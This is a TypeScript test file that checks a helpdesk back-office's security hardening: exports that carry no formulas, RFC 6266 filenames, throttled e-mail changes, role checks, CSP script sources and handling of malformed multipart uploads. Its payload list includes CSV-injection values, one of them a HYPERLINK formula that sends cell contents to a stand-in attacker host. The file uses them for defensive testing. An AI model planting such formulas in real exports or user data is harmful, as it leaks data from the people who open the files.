/**
 * Issue 35 items 1 and 3: exports carry no formulas; one RFC 6266 Content-Disposition; e-mail changes throttled;
 * assigned agents changed by admins and managers only; no localhost script source in production; malformed
 * multipart answered 400/422, never 500.
 */
import assert from 'node:assert/strict';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import * as XLSX from '@e965/xlsx';
import { parse as parseDisposition } from 'content-disposition';
import { eq } from 'drizzle-orm';
import { LOCAL_OVERRIDE_SOURCES } from '@helpdesk/shared/remote-names';
import { buildApp } from '../app';
import { loadConfig } from '../config';
import { companies, tickets, users } from '../platform/db/schema';
import { makeFakeFrontend } from '../test/fake-dist';
import { type Client, DEMO_PASSWORD, login, startServer, type TestServer } from '../test/harness';
import { companyBody } from '../test/company-body';
import { businessDateOf } from '../platform/business-time-zone';

/** A value of each start a spreadsheet runs as a formula (OWASP "CSV injection"). */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
const FORMULA_START = /^[=+\-@\t\r]/;
/** A number as the CSV writer writes one: a negative amount, hours or a percentage, in either dialect. */
const CSV_NUMBER = /^-\d[\d.,]*(:\d\d|%)?$/;

/** RFC 4180 fields of a CSV text (quotes doubled, separators and line breaks inside quotes kept). */
function csvCells(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === separator || c === '\n') {
      cells.push(cell);
      cell = '';
    } else if (c !== '\r') cell += c;
  }
  cells.push(cell);
  return cells;
}

describe('back-office hardening (issue 35)', () => {
  let server: TestServer;
  const as: Record<string, Client> = {};
  const ids: Record<string, number> = {};

  before(async () => {
    server = await startServer({ tickets: 20 });
    for (const who of ['admin', 'manager', 'agent', 'client']) as[who] = await login(server.base, `${who}@demo.test`);
    for (const u of await server.database.db.select({ id: users.id, email: users.email }).from(users)) ids[u.email] = u.id;
  });
  after(() => server.close());

  const cookie = (who: Client) => [...who.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
  const download = async (who: Client, url: string) => {
    const res = await fetch(server.base + url, { headers: { cookie: cookie(who), accept: 'application/json' } });
    assert.equal(res.status, 200, `${url}: ${res.status}`);
    return { disposition: res.headers.get('content-disposition')!, bytes: Buffer.from(await res.arrayBuffer()) };
  };
  const put = (who: Client, url: string, body: unknown) => who.request('PUT', url, body);
  const profileBody = async (who: Client, over: Record<string, unknown> = {}) => {
    const me = (await who.get('/api/profile')).body.data;
    return {
      firstname: me.firstname,
      lastname: me.lastname,
      phone: me.phone ?? '',
      direct_phone: me.direct_phone ?? '',
      lang: 'pl',
      ...over,
    };
  };

  describe('item 1: exports carry no formulas', () => {
    /** Each export as [name, bytes, format]: the server-made CSVs and XLSXs with names, subjects and amounts. */
    const files: { name: string; bytes: Buffer; format: 'csv' | 'xlsx' }[] = [];

    async function job(format: 'csv' | 'xlsx', request: Record<string, unknown>) {
      let job = (await as.admin!.post('/api/admin/reports/exports', { ...request, format, dialect: 'pl' })).body.data;
      for (let i = 0; i < 400 && job.status === 'running'; i++) {
        await new Promise((r) => setTimeout(r, 25));
        job = (await as.admin!.get(`/api/admin/exports/${job.id}`)).body.data;
      }
      assert.equal(job.status, 'done', JSON.stringify(job));
      return (await download(as.admin!, `/api${job.download_url}`)).bytes;
    }

    before(async () => {
      const db = server.database.db;
      // Agents' first names through the profile form, as a user would type them.
      const staff = ['admin', 'manager', 'agent'] as const;
      for (const [i, who] of staff.entries()) {
        const res = await put(as[who]!, '/api/profile', await profileBody(as[who]!, { firstname: PAYLOADS[i] }));
        assert.equal(res.status, 200, JSON.stringify(res.body));
      }
      // Everyone else's (agents in the reports, device owners in the CMDB) and the companies' names straight in the table.
      const others = await db.select({ id: users.id, email: users.email }).from(users).orderBy(users.id);
      for (const [i, u] of others.filter((o) => !staff.some((who) => o.email === `${who}@demo.test`)).entries())
        await db
          .update(users)
          .set({ firstname: PAYLOADS[(i + 3) % PAYLOADS.length]! })
          .where(eq(users.id, u.id));
      const firms = await db.select({ id: companies.id }).from(companies).orderBy(companies.id);
      for (const [i, firm] of firms.entries())
        await db
          .update(companies)
          .set({ name: PAYLOADS[i % PAYLOADS.length]!, shortName: PAYLOADS[(i + 1) % PAYLOADS.length]! })
          .where(eq(companies.id, firm.id));
      const all = await db.select({ id: tickets.id }).from(tickets).orderBy(tickets.id);
      for (const [i, t] of all.entries())
        await db
          .update(tickets)
          .set({ subject: PAYLOADS[i % PAYLOADS.length]! })
          .where(eq(tickets.id, t.id));

      const approved = await as.admin!.post('/api/admin/invoicing/approve', { month: '2026-10' });
      assert.equal(approved.status, 200, JSON.stringify(approved.body));
      const invoicing = '/api/admin/invoicing/export?month=2026-10&dialect=pl';
      files.push({ name: 'invoicing csv', format: 'csv', bytes: (await download(as.admin!, `${invoicing}&format=csv`)).bytes });
      files.push({
        name: 'invoicing detail csv',
        format: 'csv',
        bytes: (await download(as.admin!, `${invoicing}&format=csv&detail=1`)).bytes,
      });
      files.push({ name: 'invoicing xlsx', format: 'xlsx', bytes: (await download(as.admin!, `${invoicing}&format=xlsx`)).bytes });
      for (const format of ['csv', 'xlsx'] as const) {
        const range = 'from=2025-12&to=2026-11';
        files.push({
          name: `company profitability ${format}`,
          format,
          bytes: (await download(as.admin!, `/api/admin/profitability/export?${range}&format=${format}&dialect=pl`)).bytes,
        });
        files.push({
          name: `agent profitability ${format}`,
          format,
          bytes: (await download(as.admin!, `/api/admin/agent-profitability/export?${range}&format=${format}&dialect=pl`)).bytes,
        });
        files.push({
          name: `devices ${format}`,
          format,
          bytes: (await download(as.admin!, `/api/admin/asset/export?format=${format}&dialect=pl`)).bytes,
        });
        // The demo agent's time is seeded today and yesterday: the four weeks up to today hold it, whatever the date.
        const to = businessDateOf(new Date());
        const from = businessDateOf(new Date(Date.now() - 27 * 86_400_000));
        const agent = { report: 'agent', query: { agent_id: ids['agent@demo.test'], from, to } };
        files.push({ name: `agent report ${format}`, format, bytes: await job(format, agent) });
        files.push({ name: `daily report ${format}`, format, bytes: await job(format, { report: 'daily', query: { day: '2026-11-27' } }) });
      }
    });

    it('writes every formula-looking text as text in CSV (a leading apostrophe), numbers untouched', () => {
      const seen = new Set<string>();
      let negatives = 0;
      for (const file of files.filter((f) => f.format === 'csv')) {
        const cells = csvCells(file.bytes.toString('utf8'), ';');
        for (const cell of cells) {
          if (CSV_NUMBER.test(cell)) negatives++;
          else assert.doesNotMatch(cell, FORMULA_START, `${file.name}: ${JSON.stringify(cell)} runs as a formula`);
          for (const p of PAYLOADS) if (cell.includes(`'${p}`)) seen.add(p);
        }
        // Every file with rows names someone or some company (the detail CSV of a month without time reports has none).
        const rows = file.bytes.toString('utf8').split('\r\n').filter(Boolean).length - 1;
        if (rows > 0)
          assert.ok(
            cells.some((cell) => PAYLOADS.some((p) => cell.startsWith(`'${p}`))),
            `${file.name} carries a defused name`,
          );
      }
      assert.deepEqual([...seen].sort(), [...PAYLOADS].sort(), 'every payload reached some export, defused');
      assert.ok(negatives > 0, 'a negative amount stays a number');
    });

    it('writes them as string cells in XLSX, never a formula, and negative amounts as numbers', () => {
      const seen = new Set<string>();
      let negatives = 0;
      for (const file of files.filter((f) => f.format === 'xlsx')) {
        let texts = 0;
        const book = XLSX.read(file.bytes, { cellFormula: true });
        for (const sheet of Object.values(book.Sheets)) {
          for (const [ref, cell] of Object.entries(sheet)) {
            if (ref.startsWith('!')) continue;
            const c = cell as XLSX.CellObject;
            assert.equal(c.f, undefined, `${file.name} ${ref}: a formula`);
            if (typeof c.v === 'string' && FORMULA_START.test(c.v)) {
              assert.equal(c.t, 's', `${file.name} ${ref}: ${JSON.stringify(c.v)} is not a string cell`);
              seen.add(c.v);
              texts++;
            }
            if (c.t === 'n' && typeof c.v === 'number' && c.v < 0) negatives++;
          }
        }
        assert.ok(texts > 0, `${file.name} carries a formula-looking name`);
      }
      for (const p of PAYLOADS)
        assert.ok(
          [...seen].some((v) => v.startsWith(p)),
          `${JSON.stringify(p)} reached an XLSX as text`,
        );
      assert.ok(negatives > 0, 'a negative amount stays a number');
    });
  });

  it('item 3a: a download named with Polish letters has an ASCII filename and filename*=UTF-8', async () => {
    const [ticket] = await server.database.db.select({ id: tickets.id }).from(tickets).limit(1);
    // Quotes are %-encoded by the browser's form encoding itself; an apostrophe and brackets are not.
    const name = "Raport Żółć łódź (wersja 2)'s.pdf";
    const form = new FormData();
    form.append('file', new Blob(['%PDF-1.4 test'], { type: 'application/pdf' }), name);
    const res = await fetch(`${server.base}/api/admin/ticket/${ticket!.id}/attachments`, {
      method: 'POST',
      body: form,
      headers: {
        'x-xsrf-token': decodeURIComponent(as.admin!.cookies.get('XSRF-TOKEN')!),
        cookie: cookie(as.admin!),
        accept: 'application/json',
      },
    });
    const uploaded = (await res.json()) as any;
    assert.equal(res.status, 201, JSON.stringify(uploaded));
    const { disposition } = await download(as.admin!, uploaded.data.url);
    assert.match(disposition, /filename\*=UTF-8''[A-Za-z0-9!#$&+.^_`|~%-]+(;|$)/, disposition);
    const parsed = parseDisposition(disposition, { extended: false });
    assert.equal(parsed.type, 'attachment');
    assert.equal(parsed.parameters.filename, "Raport Zolc lodz (wersja 2)'s.pdf");
    assert.equal(parseDisposition(disposition).parameters.filename, name);
  });

  it('item 3b: e-mail changes are throttled per account and per address, 429 in the user’s language', async () => {
    const change = async (who: Client, email: string) =>
      put(who, '/api/profile', await profileBody(who, { email, current_password: DEMO_PASSWORD }));
    const client = as.client!;
    for (let i = 0; i < 5; i++) assert.equal((await change(client, `own-${i}@example.test`)).status, 200);
    const refused = await change(client, 'own-last@example.test');
    assert.equal(refused.status, 429);
    assert.match(refused.body.message, /Zbyt wiele prób/);
    assert.ok(Number(refused.headers.get('retry-after')) > 0);
    // A plain profile save is not an e-mail change and is never throttled.
    assert.equal((await put(client, '/api/profile', await profileBody(client))).status, 200);

    const target = 'victim@example.test';
    const statuses: number[] = [];
    for (const who of ['vip', 'monitoring', 'admin', 'manager'])
      statuses.push((await change(as[who] ?? (await login(server.base, `${who}@demo.test`)), target)).status);
    assert.deepEqual(statuses, [200, 200, 200, 429]);

    // A VIP changing an employee's address mails it too: the same per-address budget, shared with the profile's.
    const vip = await login(server.base, 'vip@demo.test');
    const employee = (await vip.get('/api/client/employees')).body.data.find((e: { email: string }) => e.email === 'client@demo.test');
    const edit = async (email: string) => {
      const row = (await vip.get(`/api/client/employees/${employee.id}`)).body.data;
      return put(vip, `/api/client/employees/${employee.id}`, { ...row, email });
    };
    const shared = await edit(target);
    assert.equal(shared.status, 429, JSON.stringify(shared.body));
    assert.match(shared.body.message, /Zbyt wiele prób/);
  });

  it('item 3c: only admins and managers change a company’s assigned agents', async () => {
    const agentId = ids['agent@demo.test']!;
    const body = (agentIds: number[]) =>
      companyBody({
        name: 'Agenci Sp. z o.o.',
        short_name: 'Agenci',
        tag: 'AGNC',
        domains: ['agenci.test'],
        addresses: [{ street: 'Prosta 1', city: 'Warszawa', postcode: '00-001' }],
        agent_ids: agentIds,
      });
    const created = await as.admin!.post('/api/admin/company', body([agentId]));
    assert.equal(created.status, 201, JSON.stringify(created.body));
    const url = `/api/admin/company/${created.body.data.id}`;
    // Its own company: the agent edits the rest but not who is assigned.
    assert.equal((await put(as.agent!, url, { ...body([agentId]), short_name: 'Agenci 2' })).status, 200);
    assert.equal((await put(as.agent!, url, body([agentId, ids['manager@demo.test']!]))).status, 403);
    assert.equal((await put(as.agent!, url, body([]))).status, 403);
    const agents = (await as.admin!.get(url)).body.data.agents.map((a: { id: number }) => a.id);
    assert.deepEqual(agents, [agentId]);
    assert.equal((await put(as.manager!, url, body([agentId, ids['manager@demo.test']!]))).status, 200);
    assert.equal((await put(as.admin!, url, body([]))).status, 200);
  });

  it('item 3d: production names localhost as a script source only when REMOTE_OVERRIDE_ORIGINS lists it', async () => {
    const dist = makeFakeFrontend();
    const policyOf = async (env: Record<string, string>) => {
      const config = {
        ...loadConfig({
          NODE_ENV: 'test',
          DATA_DIR: path.join(dist.root, 'data'),
          SHELL_DIST: dist.shellDist,
          REMOTES_DIR: dist.remotesDir,
          ...env,
        }),
        env: 'production' as const,
      };
      const app = await buildApp({ config, withoutDatabase: true });
      try {
        const res = await app.inject({ url: '/admin/ticket', headers: { accept: 'text/html' } });
        const header = String(res.headers['content-security-policy']);
        const directives = new Map(
          header
            .split(';')
            .map((d) => d.trim().split(/\s+/))
            .map(([n, ...s]) => [n!, s]),
        );
        const browser = (await app.inject({ url: '/config.json' })).json() as { localOverrides: boolean };
        return { scripts: directives.get('script-src')!, connect: directives.get('connect-src')!, localOverrides: browser.localOverrides };
      } finally {
        await app.close();
      }
    };
    try {
      const plain = await policyOf({});
      // The shell is told too, so it refuses an unlisted localhost override rather than load one the browser blocks.
      assert.equal(plain.localOverrides, false);
      for (const source of LOCAL_OVERRIDE_SOURCES) {
        assert.ok(!plain.scripts.includes(source), `script-src names ${source}`);
        assert.ok(!plain.connect.includes(source), `connect-src names ${source}`);
      }
      const listed = await policyOf({ REMOTE_OVERRIDE_ORIGINS: 'http://localhost:3001,https://dev.example.test' });
      for (const source of ['http://localhost:3001', 'https://dev.example.test']) assert.ok(listed.scripts.includes(source), source);
      assert.ok(!listed.scripts.includes('http://localhost:*'));
    } finally {
      dist.cleanup();
    }
  });

  describe('item 3e: malformed multipart is 400/422 with a message, never 500', () => {
    let routes: string[];
    before(async () => {
      const [ticket] = await server.database.db.select({ id: tickets.id, companyId: tickets.companyId }).from(tickets).limit(1);
      routes = [
        `/api/admin/ticket/${ticket!.id}/attachments`,
        `/api/admin/company/${ticket!.companyId}/documentation`,
        `/api/admin/company/${ticket!.companyId}/employee-import`,
        '/api/admin/asset/import',
      ];
    });
    const send = (url: string, contentType: string, body: string) =>
      fetch(server.base + url, {
        method: 'POST',
        body,
        headers: {
          'content-type': contentType,
          'x-xsrf-token': decodeURIComponent(as.admin!.cookies.get('XSRF-TOKEN')!),
          cookie: cookie(as.admin!),
          accept: 'application/json',
          'accept-language': 'pl',
        },
      });
    const head =
      '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\nimie;nazwisko\r\n';
    const cases: [string, string, string][] = [
      ['a truncated body', 'multipart/form-data; boundary=XyZ', head],
      ['a body without its boundary', 'multipart/form-data; boundary=Other', `${head}--XyZ--\r\n`],
      ['no boundary at all', 'multipart/form-data', `${head}--XyZ--\r\n`],
      ['a truncated part header', 'multipart/form-data; boundary=XyZ', '--XyZ\r\nContent-Disposition: form-da'],
      ['JSON on a multipart route', 'application/json', '{"file":"a"}'],
    ];
    for (const [what, type, body] of cases)
      it(what, async () => {
        for (const url of routes) {
          const res = await send(url, type, body);
          const answer = (await res.json().catch(() => ({}))) as { message?: string };
          assert.ok([400, 415, 422].includes(res.status), `${url}: ${res.status} ${JSON.stringify(answer)}`);
          assert.ok(answer.message && !/server/i.test(answer.message), `${url}: ${JSON.stringify(answer)}`);
        }
      });
  });
});
